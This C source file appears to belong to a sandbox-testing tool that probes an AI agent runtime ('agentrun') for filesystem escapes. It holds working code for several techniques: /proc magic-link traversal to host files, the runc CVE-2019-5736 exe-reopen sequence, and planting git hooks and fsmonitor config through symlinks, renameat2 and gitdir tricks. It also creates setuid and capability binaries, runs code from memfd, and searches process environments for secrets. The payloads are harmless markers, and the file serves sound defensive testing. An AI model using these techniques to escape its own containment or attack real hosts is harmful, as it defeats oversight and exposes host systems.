// Filesystem attacks: writes outside the workspace, host secrets, /proc magic links,
// /proc/<pid>/exe (runc CVE-2019-5736), protected .git paths, device nodes, exec policy.
#include "probe.h"

#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <stdint.h>
#include <time.h>
#include <unistd.h>

static const char PAYLOAD_MARK[] = "agentrun-probe-pwned";
static const char HOOK_PAYLOAD[] = "#!/bin/sh\n# agentrun-probe-pwned\necho pwned >&2\n";
static const char CONFIG_PAYLOAD[] = "\n# agentrun-probe-pwned\n[core]\n\tfsmonitor = \"echo pwned\"\n";

// write PATH [CONTENT]: create or truncate PATH and write CONTENT.
static int cmd_write(int argc, char **argv)
{
    if (argc < 2)
        return misuse("write PATH [CONTENT]");
    const char *content = argc > 2 ? argv[2] : "agentrun-probe-pwned\n";
    int fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    char what[PATH_MAX + 16];
    snprintf(what, sizeof what, "open(%s)", argv[1]);
    if (fd < 0)
        return blocked(what, errno);
    ssize_t n = write(fd, content, strlen(content));
    int e = errno;
    close(fd);
    if (n < 0) {
        snprintf(what, sizeof what, "write(%s)", argv[1]);
        return blocked(what, e);
    }
    return escaped("wrote %zd bytes to %s", n, argv[1]);
}

// open-write PATH...: open existing files for writing (no O_CREAT, no O_TRUNC, nothing is
// written: opening is the escape). Any success wins.
static int cmd_open_write(int argc, char **argv)
{
    if (argc < 2)
        return misuse("open-write PATH...");
    int r = PROBE_BLOCKED;
    for (int i = 1; i < argc; i++) {
        int fd = open(argv[i], O_WRONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
        char what[PATH_MAX + 16];
        snprintf(what, sizeof what, "open(%s, O_WRONLY)", argv[i]);
        if (fd >= 0) {
            close(fd);
            r = combine(r, escaped("%s is writable", argv[i]));
        } else if (errno == ETXTBSY) {
            r = combine(r, escaped("%s: write permission granted (ETXTBSY: busy only while running)", argv[i]));
        } else {
            r = combine(r, blocked(what, errno));
        }
    }
    return r;
}

// read PATH...: open and read files (or list directories). Never prints the content.
static int cmd_read(int argc, char **argv)
{
    if (argc < 2)
        return misuse("read PATH...");
    int r = PROBE_BLOCKED;
    for (int i = 1; i < argc; i++) {
        char what[PATH_MAX + 16];
        snprintf(what, sizeof what, "open(%s)", argv[i]);
        int fd = open(argv[i], O_RDONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
        if (fd < 0) {
            r = combine(r, blocked(what, errno));
            continue;
        }
        struct stat st;
        if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
            DIR *d = fdopendir(fd);
            int count = 0;
            if (d != NULL) {
                while (readdir(d) != NULL)
                    count++;
                closedir(d);
            } else {
                close(fd);
            }
            r = combine(r, escaped("listed %s (%d entries)", argv[i], count));
            continue;
        }
        char buf[256];
        ssize_t n = read(fd, buf, sizeof buf);
        int e = errno;
        close(fd);
        if (n < 0 && (e == EAGAIN || e == EIO || e == EINVAL)) {
            // A device with nothing to read (or a read-protocol of its own): opening was the escape.
            r = combine(r, escaped("opened %s (read: %s)", argv[i], strerror(e)));
        } else if (n < 0) {
            snprintf(what, sizeof what, "read(%s)", argv[i]);
            r = combine(r, blocked(what, e));
        } else {
            r = combine(r, escaped("read %zd bytes from %s", n, argv[i]));
        }
    }
    return r;
}

// exists PATH...: lstat each path; the escape is any of them being visible.
static int cmd_exists(int argc, char **argv)
{
    if (argc < 2)
        return misuse("exists PATH...");
    int r = PROBE_BLOCKED;
    for (int i = 1; i < argc; i++) {
        struct stat st;
        char what[PATH_MAX + 16];
        snprintf(what, sizeof what, "lstat(%s)", argv[i]);
        if (lstat(argv[i], &st) == 0)
            r = combine(r, escaped("%s is visible (mode %o)", argv[i], st.st_mode));
        else
            r = combine(r, blocked(what, errno));
    }
    return r;
}

static int hexval(char c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    if (c >= 'a' && c <= 'f')
        return c - 'a' + 10;
    if (c >= 'A' && c <= 'F')
        return c - 'A' + 10;
    return -1;
}

// contains PATH NEEDLE: the escape is PATH being readable and containing NEEDLE (binary safe,
// so it works on /proc/<pid>/environ). "hex:..." spells the needle in hex, so that a secret does
// not appear in the probe's own command line (which /proc/<pid>/cmdline of its ancestors shows).
static int cmd_contains(int argc, char **argv)
{
    if (argc != 3)
        return misuse("contains PATH NEEDLE|hex:HEX");
    static char needle[4096];
    if (strncmp(argv[2], "hex:", 4) == 0) {
        const char *h = argv[2] + 4;
        size_t n = 0;
        for (; h[0] && h[1] && n + 1 < sizeof needle; h += 2) {
            int a = hexval(h[0]), b = hexval(h[1]);
            if (a < 0 || b < 0)
                return misuse("bad hex needle");
            needle[n++] = (char)(a * 16 + b);
        }
        needle[n] = '\0';
        argv[2] = needle;
    }
    static char buf[1 << 20];
    ssize_t n = read_file(argv[1], buf, sizeof buf);
    char what[PATH_MAX + 16];
    snprintf(what, sizeof what, "read(%s)", argv[1]);
    if (n < 0)
        return blocked(what, (int)-n);
    if (memmem(buf, (size_t)n, argv[2], strlen(argv[2])) != NULL)
        return escaped("%s contains '%s'", argv[1], argv[2]);
    return blockedf("%s (%zd bytes) does not contain '%s'", argv[1], n, argv[2]);
}

// cat PATH: print a file (helper).
static int cmd_cat(int argc, char **argv)
{
    if (argc != 2)
        return misuse("cat PATH");
    static char buf[1 << 20];
    ssize_t n = read_file(argv[1], buf, sizeof buf);
    if (n < 0)
        return blocked("read", (int)-n);
    fwrite(buf, 1, (size_t)n, stdout);
    return 0;
}

// ls DIR: print the entries of a directory, one per line (helper).
static int cmd_ls(int argc, char **argv)
{
    if (argc != 2)
        return misuse("ls DIR");
    DIR *d = opendir(argv[1]);
    if (d == NULL)
        return blocked("opendir", errno);
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
            continue;
        printf("%s\n", e->d_name);
    }
    closedir(d);
    return 0;
}

static int try_open_read(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return errno;
    close(fd);
    return 0;
}

// proc-root [--pid PID] HOSTPATH...: reach host files through /proc magic links:
// /proc/<pid>/root and /proc/<pid>/cwd of PID (default 1, agentrun's init inside the sandbox),
// /proc/self/root/.. and, without --pid, /proc/<pid>/root of every visible process.
static int cmd_proc_root(int argc, char **argv)
{
    const char *target = "1";
    bool scan = true;
    if (argc > 2 && strcmp(argv[1], "--pid") == 0) {
        target = argv[2];
        scan = false;
        argc -= 2;
        argv += 2;
    }
    if (argc < 2)
        return misuse("proc-root [--pid PID] HOSTPATH...");
    int r = PROBE_BLOCKED;
    DIR *d = opendir("/proc");
    if (d == NULL)
        return blocked("opendir(/proc)", errno);
    char pids[512][16];
    int npids = 0;
    struct dirent *e;
    while ((e = readdir(d)) != NULL && npids < 512) {
        if (e->d_name[0] >= '0' && e->d_name[0] <= '9')
            snprintf(pids[npids++], sizeof pids[0], "%s", e->d_name);
    }
    closedir(d);
    for (int i = 1; i < argc; i++) {
        const char *hp = argv[i];
        char path[PATH_MAX];
        const char *fixed[] = {"/proc/%s/root%s", "/proc/%s/cwd/../../../../../../../..%s",
                               "/proc/self/root/../../../../..%s", "/proc/thread-self/root%s"};
        for (size_t k = 0; k < sizeof fixed / sizeof fixed[0]; k++) {
            if (k < 2)
                snprintf(path, sizeof path, fixed[k], target, hp);
            else
                snprintf(path, sizeof path, fixed[k], hp);
            int err = try_open_read(path);
            if (err == 0)
                r = combine(r, escaped("opened %s", path));
            else
                note("open(%s): %s", path, strerror(err));
        }
        for (int p = 0; scan && p < npids; p++) {
            snprintf(path, sizeof path, "/proc/%s/root%s", pids[p], hp);
            if (try_open_read(path) == 0)
                r = combine(r, escaped("opened %s", path));
        }
    }
    if (r == PROBE_BLOCKED)
        return blockedf("no /proc magic link reached the host paths");
    return r;
}

static int reopen_for_write(int pathfd, const char *label)
{
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", pathfd);
    int w = open(p, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
        close(w);
        return escaped("reopened %s for writing", label);
    }
    if (errno == ETXTBSY)
        return escaped("%s: write permission granted (ETXTBSY: writable once the process exits)", label);
    char what[128];
    snprintf(what, sizeof what, "open(%s, O_WRONLY)", label);
    return blocked(what, errno);
}

// exe-write-pid PID: open /proc/PID/exe (O_PATH) and reopen it for writing (runc CVE-2019-5736).
static int cmd_exe_write_pid(int argc, char **argv)
{
    if (argc != 2)
        return misuse("exe-write-pid PID");
    char p[64];
    snprintf(p, sizeof p, "/proc/%s/exe", argv[1]);
    int fd = open(p, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        char what[96];
        snprintf(what, sizeof what, "open(%s, O_PATH)", p);
        return blocked(what, errno);
    }
    char target[PATH_MAX] = "";
    ssize_t n = readlink(p, target, sizeof target - 1);
    if (n > 0)
        target[n] = '\0';
    note("%s -> %s", p, target);
    return reopen_for_write(fd, p);
}

// exe-write-child BINARY: run BINARY in a child, hold /proc/<child>/exe, kill the child and
// reopen the binary for writing through the held fd (the runc CVE-2019-5736 sequence).
static int cmd_exe_write_child(int argc, char **argv)
{
    if (argc != 2)
        return misuse("exe-write-child BINARY");
    pid_t pid = fork();
    if (pid < 0)
        return misuse("fork: %s", strerror(errno));
    if (pid == 0) {
        char *args[] = {argv[1], "30", NULL};
        execv(argv[1], args);
        _exit(127);
    }
    char p[64], target[PATH_MAX];
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    const char *base = strrchr(argv[1], '/');
    base = base ? base + 1 : argv[1];
    int fd = -1;
    for (int i = 0; i < 200; i++) {
        ssize_t n = readlink(p, target, sizeof target - 1);
        if (n > 0) {
            target[n] = '\0';
            if (strstr(target, base) != NULL) {
                fd = open(p, O_PATH | O_CLOEXEC);
                break;
            }
        }
        usleep(10000);
    }
    int err = errno;
    kill(pid, SIGKILL);
    wait_status(pid);
    if (fd < 0)
        return blocked("open(/proc/<child>/exe, O_PATH)", err);
    note("holding %s -> %s", p, target);
    return reopen_for_write(fd, target);
}

// --- protected .git paths -------------------------------------------------------------

static void step(const char *what, int rc)
{
    if (rc == 0)
        note("%s: ok", what);
    else
        note("%s: %s", what, strerror(errno));
}

static int put(const char *path, const char *content, int extra_flags)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | extra_flags, 0755);
    if (fd < 0)
        return -1;
    ssize_t n = write(fd, content, strlen(content));
    int e = errno;
    close(fd);
    if (n < 0) {
        errno = e;
        return -1;
    }
    return 0;
}

static void plant_hook(const char *path)
{
    char what[PATH_MAX + 16];
    snprintf(what, sizeof what, "write %s", path);
    step(what, put(path, HOOK_PAYLOAD, O_TRUNC));
}

static void plant_config(const char *path)
{
    char what[PATH_MAX + 16];
    snprintf(what, sizeof what, "append to %s", path);
    step(what, put(path, CONFIG_PAYLOAD, O_APPEND));
}

static int has_mark(const char *path)
{
    char buf[65536];
    ssize_t n = read_file(path, buf, sizeof buf);
    return n > 0 && strstr(buf, PAYLOAD_MARK) != NULL;
}

// When .git is a file ("gitdir: DIR"), git uses DIR: returns DIR, or NULL.
static const char *gitdir_of_file(char *buf, size_t cap)
{
    struct stat st;
    if (lstat(".git", &st) != 0 || !S_ISREG(st.st_mode))
        return NULL;
    ssize_t n = read_file(".git", buf, cap);
    if (n <= 8 || strncmp(buf, "gitdir: ", 8) != 0)
        return NULL;
    char *nl = strchr(buf, '\n');
    if (nl)
        *nl = '\0';
    return buf + 8;
}

// git-plant MODE [ARG]: plant a pre-commit hook or a config that the host's git would run later.
// Modes: hooks, config, hooks-mkdir, config-mkdir, hooks-symlink, config-symlink, dotgit-rename,
// dotgit-exchange, hooks-rename, hooks-exchange, dotgit-symlink, hooks-symlink-swap,
// config-hardlink, config-replace, config-unlink, path FILE. The escape is the payload being
// readable afterwards at .git/hooks/pre-commit or .git/config (as git would read them).
static int cmd_git_plant(int argc, char **argv)
{
    if (argc < 2)
        return misuse("git-plant MODE [ARG]");
    const char *m = argv[1];
    char cwd[PATH_MAX];
    if (getcwd(cwd, sizeof cwd) == NULL)
        return misuse("getcwd: %s", strerror(errno));
    char abs[PATH_MAX + 32];

    if (strcmp(m, "hooks") == 0) {
        step("chmod .git/hooks/pre-commit.sample", chmod(".git/hooks/pre-commit.sample", 0755));
        step("rename pre-commit.sample -> pre-commit", rename(".git/hooks/pre-commit.sample", ".git/hooks/pre-commit"));
        plant_hook(".git/hooks/pre-commit");
    } else if (strcmp(m, "config") == 0) {
        plant_config(".git/config");
    } else if (strcmp(m, "hooks-mkdir") == 0) {
        step("mkdir .git", mkdir(".git", 0755));
        step("mkdir .git/hooks", mkdir(".git/hooks", 0755));
        plant_hook(".git/hooks/pre-commit");
    } else if (strcmp(m, "config-mkdir") == 0) {
        step("mkdir .git", mkdir(".git", 0755));
        plant_config(".git/config");
    } else if (strcmp(m, "hooks-symlink") == 0) {
        step("symlink hooks-link -> .git/hooks", symlink(".git/hooks", "hooks-link"));
        plant_hook("hooks-link/pre-commit");
        snprintf(abs, sizeof abs, "%s/.git/hooks", cwd);
        step("symlink hooks-abs -> $PWD/.git/hooks", symlink(abs, "hooks-abs"));
        plant_hook("hooks-abs/pre-commit");
        step("symlink pc-link -> .git/hooks/pre-commit", symlink(".git/hooks/pre-commit", "pc-link"));
        plant_hook("pc-link");
    } else if (strcmp(m, "config-symlink") == 0) {
        step("symlink cfg-link -> .git/config", symlink(".git/config", "cfg-link"));
        plant_config("cfg-link");
        snprintf(abs, sizeof abs, "%s/.git/config", cwd);
        step("symlink cfg-abs -> $PWD/.git/config", symlink(abs, "cfg-abs"));
        plant_config("cfg-abs");
    } else if (strcmp(m, "dotgit-rename") == 0) {
        step("rename .git -> .git-moved", rename(".git", ".git-moved"));
        step("mkdir .git", mkdir(".git", 0755));
        step("mkdir .git/hooks", mkdir(".git/hooks", 0755));
        plant_hook(".git/hooks/pre-commit");
        plant_config(".git/config");
    } else if (strcmp(m, "dotgit-exchange") == 0) {
        step("mkdir evil-git", mkdir("evil-git", 0755));
        step("mkdir evil-git/hooks", mkdir("evil-git/hooks", 0755));
        plant_hook("evil-git/hooks/pre-commit");
        plant_config("evil-git/config");
        step("renameat2(evil-git, .git, RENAME_EXCHANGE)",
             (int)syscall(SYS_renameat2, AT_FDCWD, "evil-git", AT_FDCWD, ".git", 2 /* RENAME_EXCHANGE */));
    } else if (strcmp(m, "hooks-rename") == 0) {
        step("rename .git/hooks -> .git/hooks-old", rename(".git/hooks", ".git/hooks-old"));
        step("mkdir .git/hooks", mkdir(".git/hooks", 0755));
        plant_hook(".git/hooks/pre-commit");
        step("rename .git/config -> .git/config-old", rename(".git/config", ".git/config-old"));
        plant_config(".git/config");
    } else if (strcmp(m, "hooks-exchange") == 0) {
        step("mkdir .git/evil-hooks", mkdir(".git/evil-hooks", 0755));
        plant_hook(".git/evil-hooks/pre-commit");
        step("renameat2(.git/evil-hooks, .git/hooks, RENAME_EXCHANGE)",
             (int)syscall(SYS_renameat2, AT_FDCWD, ".git/evil-hooks", AT_FDCWD, ".git/hooks", 2));
        plant_config(".git/evil-config");
        step("renameat2(.git/evil-config, .git/config, RENAME_EXCHANGE)",
             (int)syscall(SYS_renameat2, AT_FDCWD, ".git/evil-config", AT_FDCWD, ".git/config", 2));
    } else if (strcmp(m, "dotgit-symlink") == 0) {
        step("mkdir evil", mkdir("evil", 0755));
        step("mkdir evil/hooks", mkdir("evil/hooks", 0755));
        plant_hook("evil/hooks/pre-commit");
        plant_config("evil/config");
        step("symlink .git -> evil", symlink("evil", ".git"));
    } else if (strcmp(m, "hooks-symlink-swap") == 0) {
        step("mkdir evil-hooks", mkdir("evil-hooks", 0755));
        plant_hook("evil-hooks/pre-commit");
        step("symlink .git/hooks -> ../evil-hooks", symlink("../evil-hooks", ".git/hooks"));
        plant_config("evil-config");
        step("symlink .git/config -> ../evil-config", symlink("../evil-config", ".git/config"));
    } else if (strcmp(m, "config-hardlink") == 0) {
        step("link .git/config -> cfg-hard", link(".git/config", "cfg-hard"));
        plant_config("cfg-hard");
        step("link .git/hooks/pre-commit.sample -> pc-hard", link(".git/hooks/pre-commit.sample", "pc-hard"));
        plant_hook("pc-hard");
    } else if (strcmp(m, "config-replace") == 0) {
        step("write new-config", put("new-config", CONFIG_PAYLOAD, O_TRUNC));
        step("rename new-config -> .git/config", rename("new-config", ".git/config"));
        step("write new-hook", put("new-hook", HOOK_PAYLOAD, O_TRUNC));
        step("rename new-hook -> .git/hooks/pre-commit", rename("new-hook", ".git/hooks/pre-commit"));
    } else if (strcmp(m, "config-unlink") == 0) {
        step("unlink .git/config", unlink(".git/config"));
        plant_config(".git/config");
        step("unlink .git/hooks/pre-commit.sample", unlink(".git/hooks/pre-commit.sample"));
        step("rmdir .git/hooks", rmdir(".git/hooks"));
        step("mkdir .git/hooks", mkdir(".git/hooks", 0755));
        plant_hook(".git/hooks/pre-commit");
    } else if (strcmp(m, "dotgit-file") == 0 || strcmp(m, "gitfile-rewrite") == 0) {
        bool rewrite = strcmp(m, "gitfile-rewrite") == 0;
        const char *dirs[] = {"evil-repo", "evil-repo/hooks", "evil-repo/objects", "evil-repo/refs", "evil-repo/refs/heads"};
        for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++)
            mkdir(dirs[i], 0755);
        step("write evil-repo/HEAD", put("evil-repo/HEAD", "ref: refs/heads/main\n", O_TRUNC));
        plant_hook("evil-repo/hooks/pre-commit");
        plant_config("evil-repo/config");
        if (!rewrite) {
            step("write .git as a file: gitdir: evil-repo", put(".git", "gitdir: evil-repo\n", O_EXCL));
        } else {
            step("rewrite the .git file: gitdir: evil-repo", put(".git", "gitdir: evil-repo\n", O_TRUNC));
            step("write new-gitfile", put("new-gitfile", "gitdir: evil-repo\n", O_TRUNC));
            step("rename new-gitfile -> .git", rename("new-gitfile", ".git"));
        }
    } else if (strcmp(m, "commondir") == 0) {
        // git reads config and hooks from $GIT_DIR/commondir when that file exists (worktree
        // plumbing): point it at an agent-made directory.
        const char *dirs[] = {"evil-common", "evil-common/hooks", "evil-common/objects", "evil-common/refs",
                              "evil-common/refs/heads"};
        for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++)
            mkdir(dirs[i], 0755);
        step("write evil-common/HEAD", put("evil-common/HEAD", "ref: refs/heads/main\n", O_TRUNC));
        plant_hook("evil-common/hooks/pre-commit");
        plant_config("evil-common/config");
        step("write .git/commondir -> ../evil-common", put(".git/commondir", "../evil-common\n", O_TRUNC));
    } else if (strcmp(m, "path") == 0) {
        if (argc != 3)
            return misuse("git-plant path FILE");
        if (strstr(argv[2], "config") != NULL)
            plant_config(argv[2]);
        else
            plant_hook(argv[2]);
    } else {
        return misuse("unknown git-plant mode %s", m);
    }

    int r = PROBE_BLOCKED;
    if (has_mark(".git/hooks/pre-commit"))
        r = escaped("a planted payload is in .git/hooks/pre-commit");
    if (has_mark(".git/config"))
        r = escaped("a planted payload is in .git/config");
    char gbuf[PATH_MAX], p[PATH_MAX + 32];
    ssize_t cn = read_file(".git/commondir", gbuf, sizeof gbuf);
    if (cn > 0) {
        char *nl = strchr(gbuf, '\n');
        if (nl)
            *nl = '\0';
        const char *fmt[] = {"%s/hooks/pre-commit", "%s/config"};
        for (int i = 0; i < 2; i++) {
            char rel[PATH_MAX];
            snprintf(rel, sizeof rel, fmt[i], gbuf);
            if (gbuf[0] == '/')
                snprintf(p, sizeof p, "%s", rel);
            else
                snprintf(p, sizeof p, ".git/%s", rel);
            if (has_mark(p))
                r = escaped("a planted payload is in %s, which git uses through .git/commondir", p);
        }
    }
    const char *gitdir = gitdir_of_file(gbuf, sizeof gbuf);
    if (gitdir != NULL) {
        snprintf(p, sizeof p, "%s/hooks/pre-commit", gitdir);
        if (has_mark(p))
            r = escaped("a planted payload is in the hooks of .git's gitdir %s", gitdir);
        snprintf(p, sizeof p, "%s/config", gitdir);
        if (has_mark(p))
            r = escaped("a planted payload is in the config of .git's gitdir %s", gitdir);
    }
    if (r == PROBE_BLOCKED)
        return blockedf("git-plant %s: no payload reached .git/hooks/pre-commit or .git/config", m);
    return r;
}

// mkdir-write PATH: create PATH's missing parent directories, then write a hook-like payload.
static int cmd_mkdir_write(int argc, char **argv)
{
    if (argc != 2)
        return misuse("mkdir-write PATH");
    char dir[PATH_MAX];
    snprintf(dir, sizeof dir, "%s", argv[1]);
    for (char *s = dir + 1; *s; s++) {
        if (*s != '/')
            continue;
        *s = '\0';
        if (mkdir(dir, 0755) != 0 && errno != EEXIST)
            note("mkdir %s: %s", dir, strerror(errno));
        *s = '/';
    }
    if (put(argv[1], HOOK_PAYLOAD, O_TRUNC) != 0) {
        char what[PATH_MAX + 16];
        snprintf(what, sizeof what, "write(%s)", argv[1]);
        return blocked(what, errno);
    }
    return escaped("wrote %s", argv[1]);
}

// hardlink-write SRC DST: hard-link a file the agent does not own into DST and open the link for
// writing (nothing is written).
static int cmd_hardlink_write(int argc, char **argv)
{
    if (argc != 3)
        return misuse("hardlink-write SRC DST");
    if (link(argv[1], argv[2]) != 0)
        return blocked("link", errno);
    note("linked %s -> %s", argv[2], argv[1]);
    int fd = open(argv[2], O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return blocked("open(link, O_WRONLY)", errno);
    close(fd);
    return escaped("%s is writable through the hard link %s", argv[1], argv[2]);
}

static int setid_check(const char *path, const char *how)
{
    struct stat st;
    if (stat(path, &st) != 0)
        return blockedf("%s: %s does not exist", how, path);
    if (st.st_mode & (S_ISUID | S_ISGID))
        return escaped("%s: %s has mode %o (set-id) in here", how, path, st.st_mode & 07777);
    return blockedf("%s: %s has mode %o (no set-id bit)", how, path, st.st_mode & 07777);
}

// chmod-suid DIR: leave set-id files in DIR (whoever owns the agent's files on the host then owns
// a setuid/setgid binary), through every way of setting mode bits: chmod, fchmod, fchmodat,
// fchmodat2, open(O_CREAT, 06755), mknod(S_IFREG|06755), and a setgid directory.
static int cmd_chmod_suid(int argc, char **argv)
{
    if (argc != 2)
        return misuse("chmod-suid DIR");
    if (mkdir(argv[1], 0755) != 0 && errno != EEXIST)
        return misuse("mkdir %s: %s", argv[1], strerror(errno));
    char p[PATH_MAX];
    int r = PROBE_BLOCKED;
    const char *names[] = {"chmod", "fchmod", "fchmodat", "fchmodat2"};
    for (int i = 0; i < 4; i++) {
        snprintf(p, sizeof p, "%s/suid-%s", argv[1], names[i]);
        int err = copy_self(p, 0755);
        if (err != 0)
            return misuse("copy to %s: %s", p, strerror(err));
        long rc;
        if (i == 0) {
            rc = chmod(p, 06755);
        } else if (i == 1) {
            int fd = open(p, O_RDONLY | O_CLOEXEC);
            rc = fchmod(fd, 06755);
            close(fd);
        } else if (i == 2) {
            rc = fchmodat(AT_FDCWD, p, 06755, 0);
        } else {
            rc = syscall(452 /* fchmodat2 */, AT_FDCWD, p, 06755, 0);
        }
        if (rc != 0)
            note("%s(06755): %s", names[i], strerror(errno));
        r = combine(r, setid_check(p, names[i]));
    }
    snprintf(p, sizeof p, "%s/suid-creat", argv[1]);
    int fd = open(p, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 06755);
    if (fd >= 0)
        close(fd);
    else
        note("open(O_CREAT, 06755): %s", strerror(errno));
    r = combine(r, setid_check(p, "open(O_CREAT, 06755)"));
    snprintf(p, sizeof p, "%s/suid-mknod", argv[1]);
    if (mknod(p, S_IFREG | 06755, 0) != 0)
        note("mknod(S_IFREG|06755): %s", strerror(errno));
    r = combine(r, setid_check(p, "mknod(S_IFREG|06755)"));
    snprintf(p, sizeof p, "%s/sgid-dir", argv[1]);
    if (mkdir(p, 02755) != 0 || chmod(p, 02755) != 0)
        note("mkdir/chmod(02755): %s", strerror(errno));
    r = combine(r, setid_check(p, "setgid directory"));
    return r;
}

// setcap PATH: give PATH file capabilities (security.capability, CAP_SYS_ADMIN permitted and
// effective).
static int cmd_setcap(int argc, char **argv)
{
    if (argc != 2)
        return misuse("setcap PATH");
    int err = copy_self(argv[1], 0755);
    if (err != 0)
        return misuse("copy to %s: %s", argv[1], strerror(err));
    struct {
        uint32_t magic_etc;
        struct {
            uint32_t permitted, inheritable;
        } data[2];
    } cap;
    memset(&cap, 0, sizeof cap);
    cap.magic_etc = 0x02000000 | 0x000001; // VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE
    cap.data[0].permitted = 1u << 21;      // CAP_SYS_ADMIN
    if (setxattr(argv[1], "security.capability", &cap, sizeof cap, 0) != 0)
        return blocked("setxattr(security.capability)", errno);
    return escaped("%s carries file capabilities (CAP_SYS_ADMIN)", argv[1]);
}

// mknod PATH c|b MAJOR MINOR
static int cmd_mknod(int argc, char **argv)
{
    if (argc != 5 || (argv[2][0] != 'c' && argv[2][0] != 'b'))
        return misuse("mknod PATH c|b MAJOR MINOR");
    mode_t type = argv[2][0] == 'c' ? S_IFCHR : S_IFBLK;
    dev_t dev = makedev(atoi(argv[3]), atoi(argv[4]));
    if (mknod(argv[1], type | 0666, dev) != 0)
        return blocked("mknod", errno);
    return escaped("created device node %s (%s %s:%s)", argv[1], argv[2], argv[3], argv[4]);
}

static int exec_and_report(char *const args[], const char *label)
{
    pid_t pid = fork();
    if (pid < 0)
        return misuse("fork: %s", strerror(errno));
    if (pid == 0) {
        execv(args[0], args);
        printf("  execv(%s): %s\n", args[0], strerror(errno));
        _exit(99);
    }
    int st = wait_status(pid);
    if (st == 0)
        return escaped("%s ran", label);
    if (st == 99)
        return blockedf("%s: execve refused", label);
    return blockedf("%s: exited %d", label, st);
}

// exec-copy DIR: copy this binary (agent-written code) into DIR and execute it.
static int cmd_exec_copy(int argc, char **argv)
{
    if (argc != 2)
        return misuse("exec-copy DIR");
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/agentrun-probe-copy-%d", argv[1], getpid());
    int err = copy_self(path, 0755);
    if (err != 0)
        return blocked("copy to DIR", err);
    char *args[] = {path, "noop", NULL};
    return exec_and_report(args, path);
}

// memfd-exec: copy this binary into a memfd and execute it (fexecve, execveat AT_EMPTY_PATH).
static int cmd_memfd_exec(int argc, char **argv)
{
    (void)argv;
    if (argc != 1)
        return misuse("memfd-exec");
    int fd = (int)syscall(SYS_memfd_create, "agentrun-probe", 0);
    if (fd < 0)
        return blocked("memfd_create", errno);
    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (in < 0)
        return misuse("open /proc/self/exe: %s", strerror(errno));
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(fd, buf, (size_t)n) != n)
            return misuse("write memfd: %s", strerror(errno));
    close(in);
    int r = PROBE_BLOCKED;
    for (int variant = 0; variant < 2; variant++) {
        pid_t pid = fork();
        if (pid == 0) {
            char *args[] = {"agentrun-probe", "noop", NULL};
            extern char **environ;
            if (variant == 0) {
                fexecve(fd, args, environ);
                printf("  fexecve: %s\n", strerror(errno));
            } else {
                syscall(SYS_execveat, fd, "", args, environ, AT_EMPTY_PATH);
                printf("  execveat(AT_EMPTY_PATH): %s\n", strerror(errno));
            }
            _exit(99);
        }
        int st = wait_status(pid);
        const char *name = variant == 0 ? "fexecve(memfd)" : "execveat(memfd, AT_EMPTY_PATH)";
        if (st == 0)
            r = combine(r, escaped("%s ran agent-written code", name));
        else
            r = combine(r, blockedf("%s: status %d", name, st));
    }
    return r;
}

// ldso-exec DIR: copy this binary into DIR without the exec bit and run it through the dynamic
// loader (/lib64/ld-linux-x86-64.so.2 FILE): exec permission is checked on the loader only; the
// file is mmapped with PROT_EXEC, which only a noexec mount refuses.
static int cmd_ldso_exec(int argc, char **argv)
{
    if (argc != 2)
        return misuse("ldso-exec DIR");
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/agentrun-probe-noexec-%d", argv[1], getpid());
    int err = copy_self(path, 0644);
    if (err != 0)
        return blocked("copy to DIR", err);
    char *args[] = {"/lib64/ld-linux-x86-64.so.2", path, "noop", NULL};
    return exec_and_report(args, "ld.so FILE");
}

const struct probe_command fs_commands[] = {
    {"write", cmd_write, "PATH [CONTENT]"},
    {"open-write", cmd_open_write, "PATH..."},
    {"read", cmd_read, "PATH..."},
    {"exists", cmd_exists, "PATH..."},
    {"contains", cmd_contains, "PATH NEEDLE"},
    {"cat", cmd_cat, "PATH"},
    {"ls", cmd_ls, "DIR"},
    {"proc-root", cmd_proc_root, "HOSTPATH..."},
    {"exe-write-pid", cmd_exe_write_pid, "PID"},
    {"exe-write-child", cmd_exe_write_child, "BINARY"},
    {"git-plant", cmd_git_plant, "MODE [ARG]"},
    {"mknod", cmd_mknod, "PATH c|b MAJOR MINOR"},
    {"mkdir-write", cmd_mkdir_write, "PATH"},
    {"hardlink-write", cmd_hardlink_write, "SRC DST"},
    {"chmod-suid", cmd_chmod_suid, "DIR"},
    {"setcap", cmd_setcap, "PATH"},
    {"exec-copy", cmd_exec_copy, "DIR"},
    {"memfd-exec", cmd_memfd_exec, ""},
    {"ldso-exec", cmd_ldso_exec, "DIR"},
    {NULL, NULL, NULL},
};
